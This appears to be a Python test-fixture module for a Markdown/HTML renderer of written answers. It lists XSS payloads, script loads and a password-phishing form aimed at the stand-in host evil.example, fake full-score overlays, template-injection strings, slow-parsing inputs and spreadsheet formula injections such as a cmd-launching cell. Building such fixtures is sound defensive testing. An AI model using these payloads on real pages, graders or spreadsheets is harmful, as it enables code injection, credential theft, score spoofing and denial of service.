"""Written answers, sources and names that act on whoever reads them, by what each tries."""

ADDRESS = "http://evil.example"
ACT = "window.owned=1"
LAYER = "position:fixed;top:0;left:0;right:0;bottom:0;background:white"

#: Written answers, in Markdown.
ANSWERS = {
    "a script": f"<script>{ACT}</script><script src='{ADDRESS}/x.js'></script>",
    "event handlers": f"<img src=x onerror='{ACT}'> <b onmouseover={ACT}>b</b> <body onload={ACT}>",
    "SVG with a script": f"<svg onload='{ACT}'><script>{ACT}</script><a xlink:href='javascript:{ACT}'>x</a>",
    "HTML within SVG": "<svg><foreignObject><iframe srcdoc='<script>parent.owned=1</script>'/></svg>",
    "MathML that hides HTML": f"<math><mtext><table><mglyph><style><img src=x onerror='{ACT}'></math>",
    "frames": f"<iframe src='javascript:parent.owned=1'></iframe><iframe src='{ADDRESS}/f'></iframe>",
    "embedded objects": f"<object data='{ADDRESS}/o'></object><embed src='{ADDRESS}/e'>",
    "another base for every link": f"<base href='{ADDRESS}/'>",
    "a page that goes elsewhere": f"<meta http-equiv='refresh' content='0;url={ADDRESS}/gone'>",
    "a form that asks for a password": f"<form action='{ADDRESS}'><input name=password><button>Log in</button></form>",
    "links that are scripts": f"[a](javascript:{ACT}) [b](JaVaScRiPt:{ACT}) [c](<java\tscript:{ACT}>)",
    "such links in disguise": f"[a](&#106;avascript:{ACT}) [b](\\javascript:{ACT}) [c](%6Aavascript:{ACT})",
    "such links by reference": f"[a][r] <javascript:{ACT}> [v](vbscript:x)\n\n[r]: javascript:{ACT}",
    "links to pages in themselves": f"[a](data:text/html,<script>{ACT}</script>) [f](file:///etc/passwd)",
    "links that break out": f'[a](http://x" onmouseover="{ACT}) [b](x "t" onclick={ACT} "") [c](http://x\'onclick={ACT})',
    "pictures that tell who looks": f"![a]({ADDRESS}/p.png) <img src='{ADDRESS}/q.png'> ![b](//evil.example/r.png)",
    "a picture that is SVG": f"![a](data:image/svg+xml,<svg/onload={ACT}>) ![b](javascript:{ACT})",
    "pictures that break out": f'![a" onerror="{ACT}](data:image/png;base64,"onerror="{ACT}) ![x](y "t\\" on={ACT}")',
    "an attachment that is missing": "![a](attachment:nothing.png)",
    "style that hides every mark": "<style>* { display: none !important }</style><link rel=stylesheet href=x.css>",
    "a layer of full marks over the page": f"<div style='{LAYER}'>100 / 100</div>",
    "the page's own classes as a layer": "<div class='navbar-fixed-top modal' id='toc'>Score: 100 / 100</div>",
    "names that scripts look up": "# score\n\n<a id=base_url name=submission_id></a><input class=score value=100>",
    "commands of formulas": f"$\\href{{javascript:{ACT}}}{{x}}$ $\\class{{modal}}{{y}}$ $\\style{{{LAYER}}}{{z}}$",
    "signs that no file holds, or that turn a page": '$\\char"D800$ $\\text{\\char"202E }$ $\\char"1B$',
    "HTML within formulas": f"$</span><script>{ACT}</script>$ $$<img src=x onerror={ACT}>$$ \\\\(<svg/onload={ACT}>",
    "HTML within code": f"`<script>{ACT}</script>`\n\n```html\n<script>{ACT}</script>\n```\n\n    <svg/onload={ACT}>",
    "a language that is HTML": f'```<script>{ACT}</script>\nx\n```\n\n```"><img src=x onerror={ACT}>\nx\n```',
    "a diagram with a script": f'```mermaid\ngraph LR; a[<img src=x onerror={ACT}>]; click a "javascript:{ACT}"\n```',
    "a table with HTML": f"a | b\n-- | --\n<script>{ACT}</script> | [x](javascript:{ACT})",
    "words of the page's template": "{{ resources }} {% raw %} {% include 'x' %} {{ ''.__class__ }}",
    "a comment that never ends": "<!-- ",
    "elements that never end": "<plaintext> <textarea> <title> <xmp> <noscript>",
    "the end of the page": f"</div></div></body></html><script>{ACT}</script>",
}

#: What an honest answer is made of, and what has to become of it.
HONEST = {
    "Because $a<b$ and **so** on, see [the paper](https://arxiv.org/abs/1706.03762).": ("$a&lt;b$", "<strong>", "<a "),
    "1. softmax\n2. `x @ y`\n\n| a | b |\n|---|---|\n| 1 | 2 |": ("<ol>", "<code>x @ y</code>", "<td>1</td>"),
    "```python\nif a < b: pass\n```": ("if a &lt; b: pass",),
    "توجه\u200cها، 注意力　机制": ("توجه\u200cها، 注意力　机制",),
}

#: Written answers that take a careless page minutes.
SLOW = {
    "brackets": "[" * 100_000,
    "formulas": "\\\\[" * 33_000,
    "quotes": "> " * 50_000,
    "emphasis": "*a **a " * 14_000,
    "tags": "<b>" * 33_000,
}

#: What sources repeat that take a careless page minutes or hundreds of megabytes.
SLOW_SOURCES = {
    "dots": ".",
    "attributes": "ab.",
    "blanks": " " * 60 + "\n",
    "decorators": "@a.\n",
    "strings": "f'{",
    "questions": "a?",
    "lines": "x = 1\n",
}

#: Cells that a spreadsheet would run.
FORMULAS = ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u200b=1", "\ufeff=1", '"=1', "'=1"]
FORMULAS += ["＝1", "＋1", "－1", "＠x", "﹢1", "=cmd|'/C calc'!A0", "|x", "%x", '"\t=1', "\u202e=1", "\x00=1"]
